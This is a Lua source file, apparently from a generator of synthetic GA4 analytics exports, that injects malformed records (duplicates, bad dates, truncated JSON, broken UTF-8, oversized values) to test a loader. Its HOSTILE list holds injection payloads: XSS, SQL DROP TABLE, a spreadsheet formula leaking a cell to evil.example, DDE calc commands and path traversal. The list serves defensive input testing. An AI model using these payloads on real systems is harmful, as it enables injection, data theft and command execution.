-- dirt: what real exports hold beside clean events, each kind a small function that adds its lines to a day and marks
-- what a correct load makes of them. At most one trouble a record, so that the counts do not depend on how troubles
-- combine.

local ga4 <const> = require "generator.ga4"
local random <const> = require "generator.random"
local session <const> = require "generator.session"
local visitor <const> = require "generator.visitor"

local dirt <const> = {}

-- A passer-by's session at some moment of the day; customer: a session with a login instead.
local function someone(day, r, customer, options)
  local now <const> = day:moment(r)
  local shop <const> = day.shop
  local v <const> = customer and visitor.customer(shop, r:int(1, #shop.customers), now) or visitor.new(shop, r, now)
  return session.new(day, v, now, r, options)
end

-- Opens a page with just the parameters that matter; title may be raw.
local function open_page(s, title)
  s.page = { location = "https://" .. s.shop.host .. "/guides/sizing", title = title, id = s.micros // 1000, order = 1,
        bundle = s.day:bundle() }
  s.index = 0
  s.page.params = table.concat({
    s.form:param("ga_session_id", "int", s.id), s.form:param("page_location", "string", s.page.location),
    s.form:param("page_title", "string", title),
  }, ",")
end

local function page_with_title(s, title, marks)
  open_page(s, title)
  return s:hit("page_view", nil, marks)
end

-- An add_to_cart whose first item is changed.
local function cart_with(s, changes, marks)
  local product <const> = s.r:pick(s.shop.products)
  s:go(product.path, product.title)
  local item <const> = s:item(product, 2, changes)
  if changes.no_quantity then
    item.quantity = nil
  elseif changes.no_price then
    item.cents = nil
  end
  marks = marks or {}
  marks.items = { item }
  s:hit("add_to_cart", { s.form:param("currency", "string", "USD") }, marks)
end

-- A purchase of one product with changes to its event.
local function purchase_with(s, transaction, changes)
  s:product()
  s:add_to_cart()
  return s:buy(transaction, changes)
end

-- Sends a page_view after spoil(e) has changed it.
local function spoilt(s, spoil)
  open_page(s, "Sizing guide | " .. s.shop.name)
  local e <const> = s:event("page_view")
  if e then
    spoil(e)
    s.day:add(e)
  end
end

-- Rejects a line that is made of a page_view's.
local function mangled(s, mangle)
  open_page(s, "Sizing guide | " .. s.shop.name)
  local e <const> = s:event("page_view")
  if e then
    s.day:reject(mangle(s.form:event(e)), "json")
  end
end

local HOSTILE <const> = {
  "<script>alert(document.cookie)</script>", '"><img src=x onerror=alert(1)>', "'; DROP TABLE purchase; --",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
  "\27[2J\27[31mowned\27[0m", "valve \u{202E}gnp.exe", "{{7*7}} ${7*7} %s%n", "javascript:alert(1)",
  "../../../../etc/passwd", "\\N", "\\.", "a\tb\nc", "  ", "", "(not set)", "😀 pump", "\u{FDFA}\u{200F} \u{200B}",
  "null",
}

-- kind -> { how often in 10,000 events, function(day, r) }
local KINDS <const> = {
  duplicate = { 12, function(day, r) day:again(r) end },
  resent = { 8, function(day, r) day:again(r, { bundle = day:bundle(), offset = r:int(1, 9) * 1000000 }) end },
  without_batch = { 3, function(day, r) -- older data: only the wholly identical event is the same one
    spoilt(someone(day, r, false, { batchless = true }), function(e)
      day:add(setmetatable({ bundle = day:bundle() }, { __index = e }))
      day:add(setmetatable({}, { __index = e }))
      e.again = true
    end)
  end },
  without_consent = { 8, function(day, r)
    local s <const> = session.new(day, visitor.without_consent(day.shop, r), day:moment(r), r)
    s:home()
    s:product()
    s:search()
  end },
  no_date = { 1, function(day, r)
    spoilt(someone(day, r), function(e) e.date, e.reject = false, "date" end)
  end },
  bad_date = { 1, function(day, r)
    spoilt(someone(day, r), function(e)
      e.date, e.reject = r:pick { "20240230", "(not set)", "2024-13-01", "" }, "date"
    end)
  end },
  no_name = { 1, function(day, r)
    spoilt(someone(day, r), function(e) e.name, e.reject = false, "name" end)
  end },
  truncated = { 2, function(day, r) -- never in the middle of a character: that would be two troubles
    mangled(someone(day, r), function(line) return (line:sub(1, r:int(2, #line - 1)):gsub("[\x80-\xff]+$", "")) end)
  end },
  no_object = { 2, function(day, r)
    day:reject(r:pick { "<html><head><title>502 Bad Gateway</title></head></html>", '["event_date","20240105"]',
      '"page_view"', "event_date,event_timestamp,event_name", "{'event_name': 'page_view'}", "null" }, "json")
  end },
  trailing = { 1, function(day, r)
    mangled(someone(day, r), function(line) return line .. '{"event_name":' end)
  end },
  control = { 1, function(day, r) -- a raw control character inside a string
    mangled(someone(day, r), function(line) return (line:gsub("Sizing", "Siz\1ing", 1)) end)
  end },
  long_user = { 1, function(day, r)
    local s <const> = someone(day, r)
    s.visitor.pseudo, s.visitor.heads = ("9"):rep(300), {}
    page_with_title(s, "Home", { reject = "too_long" })
  end },
  long_webuser = { 1, function(day, r)
    local s <const> = someone(day, r)
    s.visitor.customer = { id = "X" .. ("7"):rep(150) }
    s.visitor.integer_id, s.login, s.visitor.heads = false, true, {}
    page_with_title(s, "Home", { reject = "too_long" })
  end },
  long_transaction = { 1, function(day, r)
    local s <const> = someone(day, r, true)
    purchase_with(s, "W" .. ("0"):rep(120) .. "1", { fields = { reject = "too_long" } })
  end },
  blank = { 1, function(day, r) day:write(r:pick { "", "  ", "\t" }) end },
  crlf = { 3, function(day, r)
    spoilt(someone(day, r), function(e) e.ending = "\r\n" end)
  end },
  nul = { 2, function(day, r)
    page_with_title(someone(day, r), ga4.raw '"Pumps\\u0000 | Sale"', { repaired = true })
  end },
  surrogate = { 2, function(day, r)
    local title <const> = r:pick { '"Valve \\ud83d half"', '"\\udc00 lone tail"', '"\\ude00\\ud83d"' }
    page_with_title(someone(day, r), ga4.raw(title), { repaired = true })
  end },
  broken_utf8 = { 2, function(day, r)
    page_with_title(someone(day, r), ga4.raw(r:pick { '"R\xe9gulateur"', '"cut \xf0\x9f\x98"', '"over\xc0\xaflong"',
      '"\xed\xa0\x80 surrogate"' }), { repaired = true })
  end },
  giant_number = { 1, function(day, r) -- JSON, but more than PostgreSQL's numeric holds
    local s <const> = someone(day, r)
    s:home()
    s:hit("page_view", { s.form:param("score", "double", ga4.raw "1e400000") }, { repaired = true })
  end },
  long_title = { 3, function(day, r)
    page_with_title(someone(day, r), ("Größentabelle für Rohrverschraubungen – "):rep(r:int(16, 40)), { cut = true })
  end },
  long_item = { 2, function(day, r)
    cart_with(someone(day, r), { name = ('Hex Bolt 1/2"-13 × 4" '):rep(40) }, { cut = true })
  end },
  long_term = { 1, function(day, r)
    local s <const> = someone(day, r)
    s:go("/search", "Search results")
    s:hit("view_search_results", { s.form:param("search_term", "string", ("please quote 40 pcs each of: "):rep(30)) },
      { cut = true })
  end },
  nan_price = { 3, function(day, r)
    cart_with(someone(day, r), { cents = ga4.raw(r:pick { '"NaN"', '"Infinity"', '"-Infinity"' }) }, { nulled = true })
  end },
  huge_price = { 1, function(day, r)
    cart_with(someone(day, r), { cents = ga4.raw "1234567890123.5" }, { nulled = true })
  end },
  huge_quantity = { 1, function(day, r)
    local quantity <const> = r:pick { "99999999999", '"9223372036854775807"' }
    cart_with(someone(day, r), { quantity = ga4.raw(quantity) }, { nulled = true })
  end },
  nan_revenue = { 1, function(day, r)
    local s <const> = someone(day, r, true)
    s:product()
    s:add_to_cart()
    s:go("/checkout/thank-you", "Thank you for your order | " .. s.shop.name)
    local id <const> = day:transaction()
    s:hit("purchase", { s.form:param("transaction_id", "string", id) }, {
      ecommerce = { transaction_id = id, revenue = ga4.raw '"NaN"' }, items = s.cart, transaction = id, nulled = true,
    })
  end },
  null_price = { 4, function(day, r) cart_with(someone(day, r), { no_price = true }) end },
  null_quantity = { 4, function(day, r) cart_with(someone(day, r), { no_quantity = true }) end },
  not_set = { 6, function(day, r)
    cart_with(someone(day, r), { name = "(not set)", category = "(not set)", brand = "", variant = "(not set)" })
  end },
  not_set_order = { 1, function(day, r)
    purchase_with(someone(day, r, true), r:pick { "(not set)", "" })
  end },
  order_in_ecommerce = { 2, function(day, r) -- the id and the value are each in one place only
    purchase_with(someone(day, r, true), day:transaction(), { no_param = true })
  end },
  value_only = { 2, function(day, r)
    local s <const> = someone(day, r, true)
    s:product()
    s:go("/checkout/thank-you", "Thank you for your order | " .. s.shop.name)
    local id <const>, cents <const> = day:transaction(), s.seen.cents
    s:hit("purchase", { s.form:param("transaction_id", "string", id), s.form:param("value", "double", cents) },
      { value = cents, transaction = id, revenue = cents })
  end },
  big_integer = { 5, function(day, r)
    local s <const> = someone(day, r)
    s:home()
    s:hit("page_view", { s.form:param("firebase_screen_id", "int",
      r:chance(0.5) and ga4.raw "-4985163292119210307" or 4611686018427387905) })
  end },
  number_term = { 3, function(day, r) -- a term that looks like a number is one to GA4
    local s <const> = someone(day, r)
    s:go("/search", "Search results")
    s:hit("view_search_results", { s.form:param("search_term", "int", r:int(1000, 99999)) })
  end },
  hostile = { 8, function(day, r)
    local s <const> = someone(day, r, r:chance(0.5))
    local text <const> = r:pick(HOSTILE)
    if r:chance(0.5) then
      s:search_in_vain(text)
    else
      page_with_title(s, text)
    end
  end },
  new_column = { 3, function(day, r) -- the schema grows: a column nobody knows yet
    spoilt(someone(day, r), function(e)
      e.visitor = e.visitor .. ',"agent_info":{"kind":"browser","score":0.25,"tags":["a",null]}'
    end)
  end },
}

--- The dirt of a day of about that many events: a list of functions(day), in random order.
---@param scale number  1 = as in the wild
function dirt.plan(seed, number, events, scale)
  local r <const> = random.new(seed, "dirt", number)
  local names <const>, tasks <const> = {}, {}
  for name in pairs(KINDS) do
    names[#names + 1] = name
  end
  table.sort(names)
  for k, name in ipairs(names) do
    local rate <const>, run <const> = KINDS[name][1], KINDS[name][2]
    local expected <const> = rate * scale * events / 10000
    local count = expected // 1 | 0
    if r:chance(expected - count) then
      count = count + 1
    end
    for i = 1, count do
      tasks[#tasks + 1] = function(day) run(day, random.new(seed, "dirt", number, k, i)) end
    end
  end
  return r:shuffle(tasks)
end

return dirt
